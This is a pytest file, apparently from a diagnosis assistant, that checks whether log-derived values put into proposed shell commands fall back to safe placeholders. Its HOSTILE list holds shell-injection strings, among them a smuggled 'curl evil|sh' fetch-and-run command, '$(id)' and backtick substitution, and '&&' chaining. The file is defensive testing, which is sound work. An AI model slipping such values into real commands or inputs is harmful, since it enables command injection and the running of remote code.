"""What a log says never runs as a command of its own when a proposed command is pasted into a shell."""

from __future__ import annotations

from typing import Any

import pytest

from assistant.diagnosis.diagnose import placeholders
from assistant.diagnosis.template import fill_command
from assistant.facts import CaseFile
from knowledge.check import full_base
from knowledge.load import knowledge

FULL, _ = full_base()
FALLBACKS: dict[str, str] = {name: entry["fallback"] for name, entry in FULL["placeholders"].items()}
HOSTILE = [
    "10.0.0.1;curl evil|sh", "$(id)", "`id`", "a\nid", "a\n", "a && id", "a>b", "a b", "a'b", 'a"b', "a\\b", "a#b", "*", "${IFS}",
    "a!b", "(a)", "a\r", "", "a\x00b",
]  # fmt: skip
PLAIN = [
    "gpu-01.example.org",
    "10.0.0.1",
    "fe80::1%eth0",
    "-x",
    "/home/me/run_1/train.py",
    "mlx5_0:1,^mlx5_1",
    "~/a=b+c@d",
]


def templates() -> list[str]:
    found: list[str] = []
    for cause in FULL["causes"].values():
        found += [c["command"] for c in cause["confirm"] if c.get("command")]
        found += [command for fix in cause["fixes"] for command in fix.get("commands", ())]
    return found


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_values_give_way_to_the_fallback(value: str) -> None:
    expected: dict[str, Any] = dict(FALLBACKS)
    hostile = dict.fromkeys(FALLBACKS, value)
    commands = templates()
    assert len(commands) > 100 and sum("{" in c for c in commands) > 40
    for command in commands:
        assert fill_command(command, hostile, FALLBACKS) == fill_command(command, expected, FALLBACKS)


@pytest.mark.parametrize("value", PLAIN)
def test_plain_values_stay(value: str) -> None:
    assert fill_command("ping {host}", {"host": value}, FALLBACKS) == f"ping {value}"


def test_names_without_a_value() -> None:
    assert fill_command("ping {host} {x} ${host}", {}, {}) == "ping <...> <...> ${host}"
    assert fill_command("ping {host}", {"host": "a b"}, {}) == "ping <...>"
    names = placeholders(CaseFile(), knowledge())
    assert fill_command("ping {master_addr}", names, FALLBACKS) == "ping <address of the first node>"
